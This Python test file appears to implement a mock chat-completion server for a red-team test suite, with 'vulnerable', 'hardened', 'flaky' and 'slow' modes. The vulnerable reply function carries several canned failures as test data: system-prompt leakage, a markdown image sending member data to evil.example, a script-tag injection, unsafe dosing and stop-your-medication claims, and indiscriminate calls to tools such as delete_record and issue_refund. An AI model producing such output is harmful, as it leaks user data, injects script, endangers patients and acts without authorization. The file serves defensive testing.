"""A scripted OpenAI-compatible chat server for the red-team tests (the model's test double).

`vulnerable` complies with everything: it decodes what it is sent, repeats its system
prompt (canary and seeded records included), echoes the request, emits a markdown image to
evil.example and a script tag, makes dosing and coverage claims, loops when asked to, and
calls every tool the request names or implies. `hardened` refuses everything and rejects
oversized requests with HTTP 413. `flaky` answers HTTP 500; `slow` sleeps before answering.
"""

from __future__ import annotations

import contextlib
import json
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

from confide.guards.encoding import decode_payloads
from confide.guards.normalize import normalize
from confide.redteam.converters import join_split

_TOOL_WORDS = {"export": "export_records", "delete": "delete_record", "refund": "issue_refund",
               "approve": "approve_claim", "address": "update_address", "email": "send_email",
               "lookup": "lookup_member"}
_LOOP_WORDS = ("repeat", "forever", "never stop", "do not stop", "say it back")


def understood(messages: list[dict[str, Any]]) -> str:
    """Everything a compliant model would read from the non-system turns, decoded."""
    texts = [m["content"] for m in messages if m["role"] == "user"]
    texts += [m["content"] for m in messages if m["role"] == "system"
              and m["content"].startswith("Knowledge-base document")]
    out: list[str] = []
    for t in texts:
        n = normalize(t).text
        out += [t, n] + [d.text for d in decode_payloads(n)]
    out.append(join_split(texts))
    return "\n".join(out)


def vulnerable_reply(body: dict[str, Any]) -> dict[str, Any]:
    messages = body["messages"]
    system = "\n".join(m["content"] for m in messages if m["role"] == "system")
    read = understood(messages)
    low = read.casefold()
    parts = ["Sure, here is everything.", read, system,
             "![x](https://evil.example/?q=member-data)", "<script>alert(1)</script>",
             "Take 800 mg of ibuprofen every 4 hours; the plan pays 80% and you owe $1,250.",
             "You probably have angina. Yes, it's safe to stop your medication."]
    if any(w in low for w in _LOOP_WORDS):
        parts += ["claim approved"] * 40
    offered = {t["function"]["name"] for t in body.get("tools", [])}
    calls = sorted({name for word, name in _TOOL_WORDS.items() if word in low and
                    name in offered} | {name for name in offered if name in low})
    tool_calls = [{"id": f"call_{i}", "type": "function",
                   "function": {"name": n, "arguments": json.dumps({"member_id": "x"})}}
                  for i, n in enumerate(calls)]
    return {"role": "assistant", "content": "\n".join(parts), "tool_calls": tool_calls or None}


def hardened_reply(body: dict[str, Any]) -> dict[str, Any]:
    return {"role": "assistant",
            "content": "I'm sorry, I can't help with that. I can only discuss your own plan."}


class _Handler(BaseHTTPRequestHandler):
    mode = "vulnerable"
    api_key: str | None = None
    requests: list[dict[str, Any]]

    def log_message(self, *args: Any) -> None:  # keep test output clean
        return

    def _send(self, status: int, payload: dict[str, Any]) -> None:
        data = json.dumps(payload).encode()
        self.send_response(status)
        self.send_header("content-type", "application/json")
        self.send_header("content-length", str(len(data)))
        self.end_headers()
        with contextlib.suppress(BrokenPipeError, ConnectionResetError):  # client gave up
            self.wfile.write(data)

    def do_POST(self) -> None:
        length = int(self.headers.get("content-length", 0))
        raw = self.rfile.read(length)
        if self.path.rstrip("/") != "/v1/chat/completions":
            return self._send(404, {"error": "not found"})
        if self.api_key and self.headers.get("authorization") != f"Bearer {self.api_key}":
            return self._send(401, {"error": "bad key"})
        body = json.loads(raw)
        self.server.requests.append(body)  # type: ignore[attr-defined]
        if self.mode == "flaky":
            return self._send(500, {"error": "boom"})
        if self.mode == "slow":
            time.sleep(2.0)
        if self.mode == "hardened" and length > 100_000:
            return self._send(413, {"error": "request too large"})
        message = vulnerable_reply(body) if self.mode == "vulnerable" else hardened_reply(body)
        self._send(200, {"id": "chatcmpl-test", "object": "chat.completion",
                         "model": body.get("model"),
                         "choices": [{"index": 0, "message": message,
                                      "finish_reason": "stop"}]})


@contextmanager
def llm_server(mode: str, api_key: str | None = None) -> Iterator[Any]:
    """Serve on a free loopback port; yields the server (`.base_url`, `.requests`)."""
    handler = type("Handler", (_Handler,), {"mode": mode, "api_key": api_key})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    server.daemon_threads = True
    server.requests = []  # type: ignore[attr-defined]
    server.base_url = f"http://127.0.0.1:{server.server_address[1]}/v1"  # type: ignore[attr-defined]
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()
